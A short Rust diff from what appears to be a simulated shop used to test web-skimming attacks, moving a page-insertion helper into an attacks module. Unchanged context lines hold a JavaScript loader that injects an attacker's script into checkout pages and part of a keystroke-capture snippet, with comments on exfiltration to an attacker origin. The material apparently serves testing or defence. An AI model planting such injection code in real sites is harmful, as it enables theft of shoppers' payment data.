@@ -25,6 +25,7 @@
 //! channel and encoding (see the table on [`Wake`]), sending to its own path on the attacker
 //! origin ([`Wake::exfil_path`]).
 
+use super::attacks::insert_before_last;
 use super::{Origin, RecordedRequest, Resource, Shop};
 use std::time::{SystemTime, UNIX_EPOCH};
 
@@ -412,14 +413,6 @@ const KEYSTROKE_TIMER: &str = r#"!function(){var t=null,last='';function v(i){va
 
 /// Inserts a loader script that adds the attacker's script to the page.
 const LOADER: &str = r#"(function(d){var s=d.createElement('script');s.async=true;s.src='{{SCRIPT}}';(d.body||d.head).appendChild(s)})(document);"#;
-
-/// Inserts `text` before the last `marker` of a body (or panics: the page lost its structure).
-fn insert_before_last(body: &mut String, marker: &str, text: &str) {
-    match body.rfind(marker) {
-        Some(at) => body.insert_str(at, text),
-        None => panic!("shop: `{marker}` not found in the checkout page"),
-    }
-}
 
 impl Shop {
     /// Serves the clean files of one checkout again.
